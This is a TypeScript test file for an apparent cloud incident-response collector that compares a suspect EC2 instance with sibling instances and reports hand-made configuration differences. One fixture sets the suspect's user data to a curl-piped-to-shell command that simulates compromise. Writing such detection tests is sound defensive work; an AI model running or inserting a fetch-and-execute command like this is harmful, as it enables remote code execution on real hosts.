import { describe, expect, it } from 'vitest';
import type { Collected, JsonObject } from '../../kernel/index.ts';
import { failure, fakeContext } from '../testing/fake-context.ts';
import { SUSPECT, TARGET } from '../testing/fake-instance.ts';
import { collector } from './compare-siblings.ts';
import { type Member, siblingsOf } from './siblings.ts';

const member = (id: string, more: Partial<Member> = {}): Member => ({
  InstanceId: id,
  ImageId: 'ami-1',
  InstanceType: 'm5.large',
  State: { Name: 'running' },
  NetworkInterfaces: [{ Groups: [{ GroupId: 'sg-web' }] }],
  MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 1 },
  Tags: [
    { Key: 'Name', Value: id },
    { Key: 'aws:autoscaling:groupName', Value: 'web' },
  ],
  ...more,
});
const tagged = (id: string, tags: Record<string, string>, more: Partial<Member> = {}) =>
  member(id, { ...more, Tags: Object.entries(tags).map(([Key, Value]) => ({ Key, Value })) });

describe('the closest family', () => {
  const image = { ImageId: 'ami-9' };
  it.each([
    ['auto-scaling-group', { 'aws:autoscaling:groupName': 'web', Name: 'x' }, {}],
    ['launch-template', { 'aws:ec2launchtemplate:id': 'lt-1', Name: 'x' }, image],
    ['name-and-image', { Name: 'web' }, {}],
    ['image', { Name: 'other' }, {}],
    ['name', { Name: 'web' }, image],
  ] as const)('%s', (relation, tags, more) => {
    const suspect = tagged(SUSPECT, { Name: 'web', 'aws:autoscaling:groupName': 'web', 'aws:ec2launchtemplate:id': 'lt-1' });
    expect(siblingsOf(suspect, [suspect, tagged('i-2', tags, more)])).toMatchObject({ relation, siblings: [{ InstanceId: 'i-2' }] });
  });
  it('has no dead, and nobody who has nothing in common', () => {
    const suspect = member(SUSPECT);
    expect(siblingsOf(suspect, [suspect, member('i-2', { State: { Name: 'terminated' } }), tagged('i-3', {}, { ImageId: 'ami-9' })])).toBeNull();
  });
});

describe('what differs', () => {
  const run = async (members: Member[], userData: Record<string, string | null | 'denied'> = {}) => {
    const items: Collected[] = [];
    const ctx = fakeContext({
      target: TARGET,
      answers: {
        'ec2:DescribeInstances': JSON.parse(JSON.stringify({ Reservations: members.map((one) => ({ Instances: [one] })) })),
        'ec2:DescribeInstanceAttribute': ({ input }) => {
          const value = userData[(input as { InstanceId: string }).InstanceId];
          if (value === 'denied') return failure('UnauthorizedOperation');
          const UserData: JsonObject = value ? { Value: Buffer.from(value).toString('base64') } : {};
          return { UserData };
        },
      },
    });
    for await (const item of collector.collect(ctx)) items.push(item);
    return { items, found: JSON.parse(Buffer.from(items[0]!.data!).toString()) };
  };

  it('names what was changed by hand, and says whether it is alone with it', async () => {
    const changed = member(SUSPECT, {
      NetworkInterfaces: [{ Groups: [{ GroupId: 'sg-web' }, { GroupId: 'sg-open' }], Association: { PublicIp: '198.51.100.7' } }],
      MetadataOptions: { HttpTokens: 'optional', HttpPutResponseHopLimit: 1 },
      KeyName: 'evil',
    });
    const data = { [SUSPECT]: '#!/bin/sh\ncurl x|sh', 'i-2': '#!/bin/sh', 'i-3': '#!/bin/sh' };
    const { found } = await run([changed, member('i-2'), member('i-3', { KeyName: 'evil' })], data);
    expect(found).toMatchObject({ relation: 'auto-scaling-group', by: 'web', siblings: 2 });
    const by = Object.fromEntries(found.differences.map((one: any) => [one.what, one]));
    expect(Object.keys(by).sort()).toEqual(['metadata HttpTokens', 'public IPv4 addresses', 'security groups', 'user data']);
    expect(by['security groups']).toEqual({
      what: 'security groups',
      here: 'sg-open sg-web',
      there: [{ value: 'sg-web', instances: ['i-2', 'i-3'] }],
      alone: true,
    });
    expect(JSON.stringify(found)).not.toContain('curl');
  });
  it('does not take what could not be read for a difference', async () => {
    const { found } = await run([member(SUSPECT), member('i-2')], { [SUSPECT]: 'a', 'i-2': 'denied' });
    expect(found.differences).toEqual([]);
    expect((await run([member(SUSPECT), member('i-2')], { [SUSPECT]: 'denied', 'i-2': 'a' })).found.differences).toEqual([]);
  });
  it('knows a tag that only it has, and one that only it has not', async () => {
    const own = [...(member('x').Tags ?? []), { Key: 'backdoor', Value: '' }];
    const theirs = [...(member('x').Tags ?? []), { Key: 'team', Value: 'shop' }];
    const { found } = await run([member(SUSPECT, { Tags: own }), member('i-2', { Tags: theirs })]);
    expect(found.differences).toEqual([
      { what: 'tag backdoor', here: '', there: [{ value: null, instances: ['i-2'] }], alone: true },
      { what: 'tag team', here: null, there: [{ value: 'shop', instances: ['i-2'] }], alone: true },
    ]);
  });
});
